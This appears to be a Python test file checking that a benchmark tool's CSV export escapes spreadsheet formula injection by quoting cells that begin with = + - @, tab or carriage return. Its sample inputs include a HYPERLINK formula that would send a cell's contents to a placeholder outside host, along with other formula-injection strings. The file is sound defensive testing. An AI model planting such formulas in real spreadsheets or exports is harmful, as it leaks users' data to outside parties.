"""Issue 36, item 16: ``score qa --export egomonth-csv`` writes no cell that a spreadsheet would run as
a formula: cells starting with = + - @ tab or carriage return get a single quote in front (OWASP)."""

from __future__ import annotations

import csv
import io
import json

from egohorizon import cli
from egohorizon.metrics.exports import csv_text

REPLIES = ['=HYPERLINK("http://x.example/?"&A1,"B")', "+1+1", "-2+3", "@SUM(1)", "B"]


def test_replies_that_start_a_formula_are_quoted_in_the_egomonth_csv(tmp_path, capsys):
    (tmp_path / "videos" / "021").mkdir(parents=True)
    (tmp_path / "videos" / "021" / "day01.mp4").write_bytes(b"\0")
    options = ["A. In the car", "B. In the kitchen", "C. At the office", "D. In the garden"]
    items = [{"video_path": ["021/day01.mp4"], "question": f"=Q{i}?" if i == 0 else f"Q{i}?", "options": options,
              "correct_options": "B", "task_type": "Object Location", "video_id": f"v{i}"} for i in range(5)]
    qa = tmp_path / "021" / "QA.json"
    qa.parent.mkdir()
    qa.write_text(json.dumps(items))
    out = tmp_path / "egomonth"
    assert cli.main(["data", "convert", "egomonth", str(qa), "--videos", str(tmp_path / "videos"),
                     "--out", str(out)]) == 0
    pred = tmp_path / "pred.jsonl"
    pred.write_text("".join(json.dumps({"id": f"021/{i}", "text": r}) + "\n" for i, r in enumerate(REPLIES)))
    csv_path = tmp_path / "results.csv"
    assert cli.main(["score", "qa", "--gold", str(out / "qa.jsonl"), "--pred", str(pred),
                     "--export", f"egomonth-csv={csv_path}"]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8"), newline="")))
    assert [r["raw_output"] for r in rows] == ["'" + r for r in REPLIES[:4]] + ["B"]
    assert rows[0]["question"] == "'=Q0?" and rows[1]["question"] == "Q1?"
    assert [r["prediction"] for r in rows][-1] == "B" and rows[-1]["is_correct"] == "True"


def test_tab_and_carriage_return_starts_are_quoted_and_plain_cells_kept():
    text = csv_text(("a", "b"), [{"a": "\tcmd", "b": "\r=1"}, {"a": "ok - fine", "b": "7"}])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [{"a": "'\tcmd", "b": "'\r=1"}, {"a": "ok - fine", "b": "7"}]
